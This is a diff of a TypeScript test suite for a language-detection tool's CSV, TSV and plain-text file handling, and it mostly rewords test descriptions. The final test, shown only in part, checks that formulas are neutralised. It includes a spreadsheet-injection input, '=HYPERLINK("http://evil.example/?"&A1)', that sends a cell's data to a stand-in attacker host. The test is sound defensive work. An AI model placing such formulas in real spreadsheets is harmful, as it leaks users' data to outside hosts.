@@ -12,26 +12,26 @@ const detector: LanguageDetector = {
 const detect = (content: BlobPart, task: Omit<FileTask, 'file'>) =>
   detectFile(detector, { ...task, file: new Blob([content]) }, () => {});
 
-/** The file with its answers, from one column of it. */
+/** Detects one column of a file and returns the resulting file. */
 async function detected(content: BlobPart, column: number): Promise<string> {
   return (await detect(content, { kind: 'csv', column })).csv.text();
 }
 
 describe('a CSV file on the playground', () => {
-  it('may be UTF-16, and have line breaks in its header and a byte order mark, which Excel needs and stays', async () => {
+  it('may be UTF-16 with line breaks in its header, and keeps the byte order mark that Excel needs', async () => {
     const content = '\ufeff"Text\n(lang)";id\r\nGrüße;1\r\n';
     const units = Uint16Array.from(content, (character) => character.charCodeAt(0));
     for (const file of [content, units]) {
       expect(await columnsOf(new Blob([file]), 'csv')).toEqual(['Text\n(lang)', 'id']);
       const { csv } = await detect(file, { kind: 'csv', column: 1 });
-      // As `text` does not, it shows the mark.
+      // Unlike `text()`, this keeps the byte order mark.
       expect(Buffer.from(await csv.arrayBuffer()).toString()).toBe(
         '\ufeff"Text\n(lang)";id;language;confidence\r\nGrüße;1;de;0.9\r\n',
       );
     }
   });
 
-  it('may have two columns of one name, of which each can be read', async () => {
+  it('may have two columns with the same name, each of which can be chosen', async () => {
     const content = 'text,text\nGuten Morgen,\n,Guten Abend\n';
     expect(await detected(content, 0)).toBe(
       'text,text,language,confidence\nGuten Morgen,,de,0.9\n,Guten Abend,,\n',
@@ -41,7 +41,7 @@ describe('a CSV file on the playground', () => {
     );
   });
 
-  it('leaves out, and tells, what has more cells or fewer than the header', async () => {
+  it('loses rows with more or fewer cells than the header, which is reported', async () => {
     const content = 'text,note\nGuten Morgen\n\nGute Nacht,a\nGuten Abend,a,b';
     const { csv, rows, leftOut, faults } = await detect(content, { kind: 'csv' });
     expect(await csv.text()).toBe('text,note,language,confidence\nGute Nacht,a,de,0.9\n');
@@ -53,24 +53,24 @@ describe('a CSV file on the playground', () => {
     ]);
   });
 
-  it('may end with empty lines, which are nothing', async () => {
+  it('may end with empty lines, which are ignored', async () => {
     const { rows, leftOut, faults } = await detect('text\nGuten Morgen\n\n\n', { kind: 'csv' });
     expect({ rows, leftOut, faults }).toEqual({ rows: 1, leftOut: 0, faults: [] });
   });
 
-  it('may have empty cells in its only column, where they are in quotes', async () => {
+  it('may have quoted empty cells in its only column', async () => {
     const { csv, rows, leftOut, empty } = await detect('text\nGuten Morgen\n""\n\n""\n', { kind: 'csv' });
     expect(await csv.text()).toBe('text,language,confidence\nGuten Morgen,de,0.9\n"",,\n"",,\n');
     expect({ rows, leftOut, empty }).toEqual({ rows: 3, leftOut: 1, empty: 2 });
   });
 
-  it('may be TSV, which is cut at tabs whatever its header holds', async () => {
+  it('may be TSV, which is split at tabs whatever its header contains', async () => {
     const content = 'id\ttext (short, plain, no markup)\n1\t"Guten\n2\tMorgen"\n3\tGuten Abend\n';
     expect(await columnsOf(new Blob([content]), 'tsv')).toEqual(['id', 'text (short, plain, no markup)']);
     const { rows, faults } = await detect(content, { kind: 'tsv', column: 1 });
     expect(rows).toBe(2);
-    // A quote that was meant as such takes the row after it.
-    expect(faults).toEqual(['Line 2 has a quote that line 3 closes, so these lines are read as one row.']);
+    // A quotation mark within a cell swallows the next row.
+    expect(faults).toEqual(['Line 2 opens a quote that line 3 closes: this is read as one row.']);
   });
 
   it('may have no header', async () => {
@@ -80,29 +80,29 @@ describe('a CSV file on the playground', () => {
     expect({ rows, leftOut }).toEqual({ rows: 2, leftOut: 0 });
   });
 
-  it('may have columns of the names that are added, which is told', async () => {
+  it('may already have columns with the added names, which is reported', async () => {
     const { csv, faults } = await detect('text,language\nGuten Morgen,x\n', { kind: 'csv' });
     expect(await csv.text()).toBe('text,language,language,confidence\nGuten Morgen,x,de,0.9\n');
     expect(faults).toEqual(['Line 1 has a column "language" already: the last one of that name is new.']);
   });
 
-  it('has its rows apart where its lines end in several ways', async () => {
+  it('is split into rows even if its line endings differ', async () => {
     expect(await detected('id,text\r\n1,Guten Morgen\n2,Guten Abend\r\n3,"Gute\rNacht"\r', 1)).toBe(
       'id,text,language,confidence\r\n1,Guten Morgen,de,0.9\r\n2,Guten Abend,de,0.9\r\n3,"Gute\rNacht",de,0.9\r\n',
     );
   });
 
-  it('may begin with the line by which Excel is told of its separator', async () => {
+  it('may begin with the line that tells Excel its separator', async () => {
     const content = 'sep=;\r\nid;text\r\n1;a,b\r\n';
     expect(await columnsOf(new Blob([content]), 'csv')).toEqual(['id', 'text']);
     expect(await detected(content, 1)).toBe('sep=;\r\nid;text;language;confidence\r\n1;a,b;de;0.9\r\n');
   });
 
-  it.each(['\n\na', '\r\na,b\r\n'])('without a header is refused with the reason: %j', async (content) => {
+  it.each(['\n\na', '\r\na,b\r\n'])('is rejected without a header: %j', async (content) => {
     await expect(columnsOf(new Blob([content]), 'csv')).rejects.toThrow('begins with an empty line');
   });
 
-  it('with a header that cannot be read is refused with the reason', async () => {
+  it('is rejected with a reason if its header cannot be read', async () => {
     await expect(columnsOf(new Blob(['a,"b\n1,2\n']), 'csv')).rejects.toThrow(
       'The file has a header that has a quote that is not closed.',
     );
@@ -112,7 +112,7 @@ describe('a CSV file on the playground', () => {
 it.each<[FileTask['kind'], string, number]>([
   ['csv', 'text,by\nGuten Morgen,M\xfcller\nGuten Abend,\n', 2],
   ['lines', 'Guten Morgen\n\nGr\xfc\xdfe an alle\n', 3],
-])('a file on the playground that is not in UTF-8 is told: %s', async (kind, content, line) => {
+])('reports that a file on the playground is not UTF-8: %s', async (kind, content, line) => {
   const { faults } = await detect(Buffer.from(content, 'latin1'), { kind });
   expect(faults).toEqual([
     `Line ${line} contains characters that cannot be decoded: the file may not be UTF-8.`,
@@ -120,7 +120,7 @@ it.each<[FileTask['kind'], string, number]>([
 });
 
 describe('a file on the playground', () => {
-  it('is read in the encoding that is named', async () => {
+  it('is read in the chosen encoding', async () => {
     const file = new Blob([Buffer.from('Gr\xfc\xdfe,von\nGuten Morgen,M\xfcller\n', 'latin1')]);
     expect(await columnsOf(file, 'csv', 'windows-1252')).toEqual(['Grüße', 'von']);
     const { csv, faults } = await detectFile(
@@ -132,13 +132,13 @@ describe('a file on the playground', () => {
     expect(faults).toEqual([]);
   });
 
-  it.each(['', ' \n\n', '\ufeff'])('that is empty is refused with the reason: %j', async (content) => {
+  it.each(['', ' \n\n', '\ufeff'])('is rejected with a reason if it is empty: %j', async (content) => {
     const file = new Blob([content]);
     await expect(columnsOf(file, 'csv')).rejects.toThrow('The file is empty.');
     await expect(detect(content, { kind: 'lines' })).rejects.toThrow('The file is empty.');
   });
 
-  it('that is no text is refused with the reason', async () => {
+  it('is rejected with a reason if it is not text', async () => {
     const picture = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82);
     await expect(detect(picture, { kind: 'lines' })).rejects.toThrow(
       'The file is not a text file: save tables as CSV',
@@ -151,15 +151,15 @@ describe('a file on the playground', () => {
     expect(await csv.text()).toBe('text,language,confidence\nGuten Morgen,de,0.9\n');
   });
 
-  it('has a row for each of its lines, also for an empty one', async () => {
+  it('has a row per line, including empty lines', async () => {
     const { csv, rows, empty } = await detect('Guten Morgen\n\nGuten Abend', { kind: 'lines' });
     expect(await csv.text()).toBe('text,language,confidence\nGuten Morgen,de,0.9\n,,\nGuten Abend,de,0.9\n');
     expect({ rows, empty }).toEqual({ rows: 3, empty: 1 });
   });
 });
 
-describe('a table that is made of plain lines', () => {
-  it('holds no formula for spreadsheet programs', async () => {
+describe('a table made from plain lines', () => {
+  it('contains no formula for spreadsheet programs', async () => {
     const lines = [
       '=HYPERLINK("http://evil.example/?"&A1)',
       '@SUM(1)',
